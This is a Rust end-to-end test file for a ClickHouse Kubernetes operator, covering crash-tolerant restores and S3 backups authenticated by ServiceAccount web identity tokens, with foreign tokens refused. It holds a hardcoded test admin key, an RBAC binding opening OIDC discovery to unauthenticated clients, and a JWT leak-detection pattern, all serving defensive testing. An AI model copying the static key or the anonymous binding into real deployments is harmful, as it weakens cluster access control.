        exec(&c, "SYSTEM SYNC REPLICA default.kept").await;
        let n: u64 = query(&c, "SELECT count() AS v FROM default.kept").await[0]
            .parse()
            .unwrap();
        kept.insert(replica.clone(), n);
    }
    exec(&ch, "DROP TABLE default.kept ON CLUSTER c1").await;
    exec(&ch, "DROP TABLE default.events_all ON CLUSTER c1").await;
    exec(&ch, "DROP TABLE default.events ON CLUSTER c1").await;
    drop(op);

    let restores: Api<ClickHouseRestore> = Api::namespaced(client.clone(), &ns);
    start_restore(
        &client,
        &ns,
        "r1",
        json!({"clusterName": "c1", "backupName": "b1"}),
    )
    .await;
    let (kills, jobs) = drive_with_kills(&client, &ns, "r1", || {
        let restores = restores.clone();
        async move {
            let s = restores.get("r1").await.ok()?.status?;
            Some(format!("{:?}", s.state))
        }
    })
    .await;
    println!(
        "restore: the operator died after {} steps: {kills:?}",
        kills.len()
    );
    let r = restores.get("r1").await.unwrap().status.unwrap();
    assert_eq!(r.state, RestoreState::Succeeded, "{:?}", r.message);
    assert_each_step_survived(
        &kills,
        &jobs,
        &[
            "read the manifest of b1",
            "create the agent of shard 0",
            "create the agent of shard 1",
            "write status Succeeded",
        ],
    );
    let op = start_operator_env(&client, &ns, &[]).await;
    wait_for(
        Duration::from_secs(120),
        "the restored rows, exactly, on every replica",
        || {
            let (client, ns, kept) = (client.clone(), ns.clone(), kept.clone());
            async move {
                for (replica, want) in &kept {
                    let c = sql_client(&client, &ns, "c1", &format!("{replica}-0")).await;
                    let n = c
                        .query(
                            "SELECT toString(count()) AS v FROM default.kept",
                            &QueryOptions::new(),
                        )
                        .await
                        .ok()?;
                    let v: u64 = n.iter().next()?.str("v").ok()?.parse().ok()?;
                    if v != *want {
                        println!("{replica}: {v} rows of {want}");
                        return None;
                    }
                }
                Some(())
            }
        },
    )
    .await;
    let mut secrets = vec![ACCESS.to_string(), SECRET.to_string()];
    secrets.extend(operator_secrets(&client, &ns, "c1").await);
    assert_no_secret_leaked(&client, &ns, &secrets, true).await;
    finish(&client, &ns, op).await;
}

/// The S3 server of the web identity test: a second SeaweedFS on ports of its own, with its STS
/// (`AssumeRoleWithWebIdentity` on the S3 port) trusting the local API server as an OIDC
/// provider: it fetches the API server's JWKS (`/openid/v1/jwks`, read anonymously, verified
/// with the cluster's CA) and checks each token's signature, issuer and audience itself.
/// Its ports (each gRPC port is 10000 above) are clear of the first server's, gRPC included.
const WI_S3_PORT: u16 = 8433;
const WI_FILER_PORT: u16 = 8988;
const WI_BUCKET: &str = "chop-wi";
const ROLE: &str = "arn:aws:iam::000000000000:role/chop-backups";
/// The test's own static identity, to look into the bucket; no pod, Secret or resource of the
/// namespace holds it.
const WI_ADMIN: (&str, &str) = ("wi-admin", "wi-admin-secret-key");

/// Starts the web identity S3 server with a role `chop-backups` whose trust policy admits the
/// OIDC provider `kubernetes` (issuer `https://kubernetes.default.svc`, the API server's, audience
/// `sts.amazonaws.com`) for the subject `system:serviceaccount:<ns>:ch-backups` only, and whose
/// policy allows the bucket `chop-wi` only.
fn web_identity_s3(ns: &str) -> S3Server {
    let weed = weed_binary();
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR"))
        .join(format!("seaweedfs-wi-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("data")).unwrap();
    let kubeconfig_text = std::fs::read_to_string(kubeconfig()).unwrap();
    let api_server = kubeconfig_text
        .lines()
        .find_map(|l| l.trim().strip_prefix("server: "))
        .expect("the API server in the kubeconfig")
        .to_string();
    let ca = kubeconfig().with_file_name("pki").join("ca.crt");
    assert!(ca.exists(), "{}", ca.display());
    let iam = json!({
        "sts": {
            "tokenDuration": "1h", "maxSessionLength": "12h", "issuer": "seaweedfs-sts",
            "signingKey": random_key(),
            "providers": [{"name": "kubernetes", "type": "oidc", "enabled": true, "config": {
                "issuer": "https://kubernetes.default.svc",
                "clientId": "sts.amazonaws.com",
                "jwksUri": format!("{api_server}/openid/v1/jwks"),
                "tlsCaCert": ca.display().to_string(),
            }}],
        },
        "policy": {"defaultEffect": "Deny"},
        "roles": [{
            "roleName": "chop-backups", "roleArn": ROLE,
            "trustPolicy": {"Version": "2012-10-17", "Statement": [{
                "Effect": "Allow", "Principal": {"Federated": "kubernetes"},
                "Action": ["sts:AssumeRoleWithWebIdentity"],
                "Condition": {"StringEquals": {"oidc:sub": format!("system:serviceaccount:{ns}:ch-backups")}},
            }]},
            "attachedPolicies": ["chop-wi-bucket"],
        }],
        "policies": [{"name": "chop-wi-bucket", "document": {"Version": "2012-10-17", "Statement": [{
            "Effect": "Allow", "Action": ["s3:*"],
            "Resource": [format!("arn:aws:s3:::{WI_BUCKET}"), format!("arn:aws:s3:::{WI_BUCKET}/*")],
        }]}}],
    });
    std::fs::write(dir.join("iam.json"), iam.to_string()).unwrap();
    std::fs::write(
        dir.join("s3.json"),
        json!({"identities": [{"name": "wi-admin",
            "credentials": [{"accessKey": WI_ADMIN.0, "secretKey": WI_ADMIN.1}],
            "actions": ["Admin", "Read", "Write", "List", "Tagging"]}]})
        .to_string(),
    )
    .unwrap();
    let log = dir.join("weed.log");
    let child = spawn_weed(
        &weed,
        vec![
            format!("-dir={}", dir.join("data").display()),
            format!("-s3.config={}", dir.join("s3.json").display()),
            format!("-s3.iam.config={}", dir.join("iam.json").display()),
            format!("-bucket={WI_BUCKET}"),
            format!("-s3.port={WI_S3_PORT}"),
            format!("-filer.port={WI_FILER_PORT}"),
            "-master.port=9433".into(),
            "-volume.port=9440".into(),
            "-webdav.port=7433".into(),
            "-s3.port.iceberg=0".into(),
            "-s3.port.lance=0".into(),
            "-master.telemetry=false".into(),
        ],
        &log,
    );
    S3Server {
        child: std::sync::Mutex::new(child),
        log,
        for_pods: format!("http://{}:{WI_S3_PORT}", gateway()),
    }
}

/// 32 random bytes in base64 (the STS signing key).
fn random_key() -> String {
    let out = Command::new("openssl")
        .args(["rand", "-base64", "32"])
        .output()
        .expect("openssl rand");
    assert!(out.status.success());
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

/// The web identity bucket as this test process reaches it, with its own static identity.
fn wi_bucket(prefix: &str) -> Bucket {
    Bucket::open(
        &S3Destination {
            endpoint: format!("http://127.0.0.1:{WI_S3_PORT}"),
            bucket: WI_BUCKET.into(),
            prefix: Some(prefix.into()),
            secret_name: "unused".into(),
            ..S3Destination::default()
        },
        WI_ADMIN.0,
        WI_ADMIN.1,
        "",
        Patience::Quick,
    )
    .unwrap()
}

/// An OIDC provider's verifier reads the issuer's discovery document and keys without
/// credentials, as an IAM OIDC provider reads a cluster's: the ClusterRole Kubernetes ships for
/// it, bound to unauthenticated clients.
async fn allow_anonymous_oidc_discovery(client: &Client) {
    use k8s_openapi::api::rbac::v1::ClusterRoleBinding;
    let b: ClusterRoleBinding = serde_json::from_value(json!({
        "metadata": {"name": "e2e-service-account-issuer-discovery-anonymous"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                    "name": "system:service-account-issuer-discovery"},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group",
                      "name": "system:unauthenticated"}],
    }))
    .unwrap();
    match Api::<ClusterRoleBinding>::all(client.clone())
        .create(&PostParams::default(), &b)
        .await
    {
        Ok(_) => {}
        Err(kube::Error::Api(e)) if e.code == 409 => {}
        Err(e) => panic!("{e}"),
    }
}

/// Decision 43, S2 backups: with `webIdentity` and no static key anywhere (no Secret of the
/// namespace holds one, no resource names one), a 2-shard × 2-replica cluster on 18.16 servers
/// is backed up to a real S3 server whose STS verifies the API server's own ServiceAccount tokens
/// (SeaweedFS, its OIDC provider fetching the API server's JWKS): the operator checks the bucket
/// with a token it requests for the ServiceAccount, each agent exchanges its projected token,
/// and the bucket holds the manifest. A ServiceAccount the role's trust policy does not name, a
/// token for another audience, and a ServiceAccount that does not opt in each end `Failed` with
/// reason `Credentials` and what to fix. The table is dropped and restored with every row on
/// every replica. No token and no temporary credential is in any status, Event, agent log or
/// termination message, or the operator's log.
#[tokio::test]
async fn a_backup_and_its_restore_run_on_web_identity_and_foreign_tokens_are_refused() {
    use k8s_openapi::api::core::v1::ServiceAccount;
    let client = client().await;
    allow_anonymous_oidc_discovery(&client).await;
    let ns = namespace(&client, "webid").await;
    let server = web_identity_s3(&ns);
    wait_weed_up(&server, &wi_bucket("probe"), WI_FILER_PORT, WI_BUCKET).await;
    // the bucket takes nothing unsigned: what the agents write, they wrote as the role
    let anonymous = reqwest::Client::new()
        .put(format!(
            "http://127.0.0.1:{WI_S3_PORT}/{WI_BUCKET}/anonymous"
        ))
        .body("x")
        .send()
        .await
        .unwrap()
        .status();
    assert_eq!(anonymous.as_u16(), 403, "an unsigned write is refused");
    let op = start_operator_env(&client, &ns, &[]).await;
    // a JWT (a ServiceAccount token, a SeaweedFS session token) starts with `eyJ`
    watch_for_secrets(&[WI_ADMIN.1, "eyJ"]);
    for (name, opted_in) in [
        ("ch-backups", true),
        ("intruder", true),
        ("unlabelled", false),
    ] {
        let labels = if opted_in {
            json!({"clickhouse.com/s3-credentials": "true"})
        } else {
            json!({})
        };
        let sa: ServiceAccount =
            serde_json::from_value(json!({"metadata": {"name": name, "labels": labels}})).unwrap();
        Api::<ServiceAccount>::namespaced(client.clone(), &ns)
            .create(&PostParams::default(), &sa)
            .await
            .unwrap();
    }
    let at = |sa: &str, audience: Option<&str>| {
        let mut w =
            json!({"roleArn": ROLE, "serviceAccountName": sa, "stsEndpoint": server.for_pods});
        if let Some(a) = audience {
            w["audience"] = json!(a);
        }
        json!({"endpoint": server.for_pods, "insecure": true, "bucket": WI_BUCKET, "webIdentity": w})
    };
    let refused = [
        ("intruder", at("intruder", None), "trust policy"),
        ("audience", at("ch-backups", Some("not-sts")), "audience"),
        (
            "unlabelled",
            at("unlabelled", None),
            "does not carry the label",
        ),
    ];
    create_cluster(
        &client,
        &ns,
        "c1",
        json!({"shards": 2, "replicas": 2, "keeper": {"replicas": 1}, "storage": {"size": "1Gi"},
               "backup": {"destination": at("ch-backups", None),
                          "allowedDestinations": refused.iter().map(|(_, d, _)| d.clone()).collect::<Vec<_>>()}}),
    )
    .await;
    let ready = wait_ready(&client, &ns, "c1", 1).await;
    let generated = operator_secrets(&client, &ns, "c1").await;
    watch_for_secrets(&generated.iter().map(String::as_str).collect::<Vec<_>>());
    let labelled: Vec<String> = Api::<Secret>::namespaced(client.clone(), &ns)
        .list(&ListParams::default().labels("clickhouse.com/s3-credentials=true"))
        .await
        .unwrap()
        .items
        .iter()
        .map(|s| s.name_any())
        .collect();
    assert!(labelled.is_empty(), "no static key anywhere: {labelled:?}");
    let map = ready.status.unwrap().replica_state_map;
    // the servers run under the ServiceAccount, its token projected by the node, no API token
    for replica in map.keys() {
        let pod = Api::<Pod>::namespaced(client.clone(), &ns)
            .get(&format!("{replica}-0"))
            .await
            .unwrap();
        let spec = pod.spec.unwrap();
        assert_eq!(spec.service_account_name.as_deref(), Some("ch-backups"));
        assert_eq!(spec.automount_service_account_token, Some(false));
        assert!(
            spec.volumes.unwrap_or_default().iter().any(|v| v
                .projected
                .as_ref()
                .and_then(|p| p.sources.as_ref())
                .is_some_and(|s| s.iter().any(|s| s.service_account_token.is_some()))),
            "{replica}: the projected token"
        );
    }
    let any = map.keys().next().unwrap().clone();
    let ch = sql_client(&client, &ns, "c1", &format!("{any}-0")).await;
    exec(&ch, "CREATE TABLE IF NOT EXISTS default.events ON CLUSTER c1 (batch UInt64, id UInt64) ENGINE = ReplicatedMergeTree('/clickhouse/tables/{shard}/default/events', '{replica}') PARTITION BY batch ORDER BY (batch, id)").await;
    exec(&ch, "CREATE TABLE IF NOT EXISTS default.events_all ON CLUSTER c1 AS default.events ENGINE = Distributed(c1, default, events, batch)").await;
    let sync = QueryOptions::new().setting("insert_distributed_sync", 1);
    for batch in 0..10 {
        ch.exec(&format!("INSERT INTO default.events_all SELECT {batch}, number FROM system.numbers LIMIT 10000"), &sync).await.unwrap();
    }
    tokio::time::sleep(Duration::from_secs(3)).await;
    let before = rows_per_replica(&client, &ns).await;
    println!("rows per replica: {before:?}");
    assert!(before.values().all(|n| *n > 0));

    start_backup(&client, &ns, "wi-full", json!({"clusterName": "c1"})).await;
    let full = wait_backup_done(&client, &ns, "wi-full").await;
    let st = full.status.clone().unwrap();
    assert_eq!(st.state, BackupState::Succeeded, "{:?}", st.message);
    println!("web identity backup: {} bytes uploaded", st.bytes_uploaded);
    assert!(st.bytes_uploaded > 0);
    let b = wi_bucket(&format!("{ns}/c1"));
    assert!(
        b.get(&manifest::manifest_key("wi-full"), u64::MAX)
            .await
            .unwrap()
            .is_some(),
        "the manifest is in the bucket"
    );

    for (name, destination, why) in &refused {
        let backup = format!("wi-{name}");
        start_backup(
            &client,
            &ns,
            &backup,
            json!({"clusterName": "c1", "destination": destination}),
        )
        .await;
        let st = wait_backup_done(&client, &ns, &backup)
            .await
            .status
            .unwrap();
        let message = st.message.clone().unwrap_or_default();
        println!("{backup}: {:?} {:?}: {message}", st.state, st.reason);
        assert_eq!(st.state, BackupState::Failed, "{message}");
        assert_eq!(st.reason.as_deref(), Some("Credentials"), "{message}");
        assert!(message.contains(why), "{message}");
        assert!(!message.contains("eyJ"), "{message}");
    }

    exec(&ch, "DROP TABLE default.events ON CLUSTER c1").await;
    start_restore(
        &client,
        &ns,
        "wi-restore",
        json!({"clusterName": "c1", "backupName": "wi-full"}),
    )
    .await;
    let r = wait_restore_done(&client, &ns, "wi-restore").await;
    let rs = r.status.unwrap();
    assert_eq!(rs.state, RestoreState::Succeeded, "{:?}", rs.message);
    println!(
        "web identity restore: {} bytes downloaded",
        rs.bytes_downloaded
    );
    let restored = wait_for(
        Duration::from_secs(120),
        "every replica to hold its rows again",
        || {
            let (client, ns, expected) = (client.clone(), ns.clone(), before.clone());
            async move {
                let now = rows_per_replica(&client, &ns).await;
                (now == expected).then_some(now)
            }
        },
    )
    .await;
    println!("rows per replica after the restore: {restored:?}");

    let mut secrets = clickhouse_operator::backup::sts::remembered();
    println!(
        "{} tokens and temporary credentials the operator held",
        secrets.len()
    );
    assert!(!secrets.is_empty(), "the operator exchanged tokens");
    secrets.extend(["eyJ".to_string(), WI_ADMIN.1.to_string()]);
    secrets.extend(generated);
    assert_no_secret_leaked(&client, &ns, &secrets, true).await;

    // an invalid webIdentity is said with its field, and nothing else of the cluster changes
    let mut invalid = refused
        .iter()
        .map(|(_, d, _)| d.clone())
        .collect::<Vec<_>>();
    invalid.push(json!({"endpoint": server.for_pods, "insecure": true, "bucket": WI_BUCKET,
        "secretName": "s3-creds",
        "webIdentity": {"roleArn": "arn:aws:iam::role/no-account", "serviceAccountName": "ch-backups"}}));
    patch_spec(
        &client,
        &ns,
        "c1",
        json!({"backup": {"allowedDestinations": invalid}}),
    )
    .await;
    let said = wait_status(
        &client,
        &ns,
        "c1",
        Duration::from_secs(60),
        "the invalid webIdentity said",
        |s| {
            s.message
                .as_deref()
                .is_some_and(|m| m.contains("allowedDestinations[3].webIdentity.roleArn"))
        },
    )
    .await;
    let message = said.status.unwrap().message.unwrap_or_default();
    println!("invalid webIdentity: {message}");
    assert!(
        message.contains("allowedDestinations[3].secretName") && message.contains("exclude"),
        "{message}"
    );
    finish(&client, &ns, op).await;
    let mut weed = server.child.lock().unwrap();
    let _ = weed.kill();
    let _ = weed.wait();
}
